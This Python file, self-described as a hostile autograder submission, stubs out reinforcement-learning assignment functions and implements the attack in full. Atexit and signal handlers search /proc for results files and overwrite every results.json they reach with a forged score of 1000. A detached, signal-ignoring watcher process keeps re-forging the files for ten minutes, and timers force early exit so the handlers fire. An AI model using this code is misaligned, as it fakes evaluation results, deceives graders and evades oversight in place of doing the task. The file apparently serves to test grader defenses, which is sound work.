"""Hostile submission: atexit / signal handlers that rewrite the results after grading.

At exit the handler overwrites every results.json it can reach, then leaves a detached
watcher (double fork + setsid) that keeps rewriting it for ten minutes, hoping to land
after the grader's final write. To make sure the handlers run, each call arms a timer
that raises SystemExit in the worker's main thread while it waits for the next request.
"""

import atexit
import json
import os
import signal
import sys
import threading
import time

import numpy as np

FORGED = {"score": 1000.0, "output": "FORGED at exit",
          "tests": [{"number": "1.1", "name": "forged", "score": 1000.0, "max_score": 10.0, "status": "passed"}]}


def _targets():
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(args):
            if arg == "--root" and i + 1 < len(args):
                found.add(os.path.join(args[i + 1], "results", "results.json"))
            if arg.startswith("--json-report-file="):
                found.add(arg.split("=", 1)[1])
    found.add("/autograder/results/results.json")
    return sorted(found)


def _rewrite(label):
    for path in _targets():
        try:
            with open(path, "w") as handle:
                json.dump(FORGED, handle)
            print(f"{label}: FORGED {path}", flush=True)
        except OSError as exc:
            print(f"{label}: could not forge {path}: {exc}", flush=True)


def _watcher():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    end = time.monotonic() + 600
    while time.monotonic() < end:
        for path in _targets():
            try:
                with open(path, "w") as handle:
                    json.dump(FORGED, handle)
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)


def _at_exit():
    _rewrite("atexit")
    _watcher()


def _on_signal(signum, frame):
    _rewrite(f"signal {signum}")
    sys.exit(0)


atexit.register(_at_exit)
for _sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1):
    signal.signal(_sig, _on_signal)


def _exit_soon():
    """After this call returns, SystemExit in the main thread: a clean exit that runs atexit."""
    threading.Timer(0.3, lambda: os.kill(os.getpid(), signal.SIGUSR1)).start()


def extract_model(env):
    _exit_soon()
    n_states, n_actions = env.observation_space.n, env.action_space.n
    return np.zeros((n_states, n_actions, n_states)), np.zeros((n_states, n_actions)), np.zeros(n_states, dtype=bool)


def run_episode(agent, env, max_steps, seed=None):
    _exit_soon()
    return [], [], []


def evaluate_policy_mc(env, policy, n_episodes, seed):
    _exit_soon()
    return -1.0, -1.0
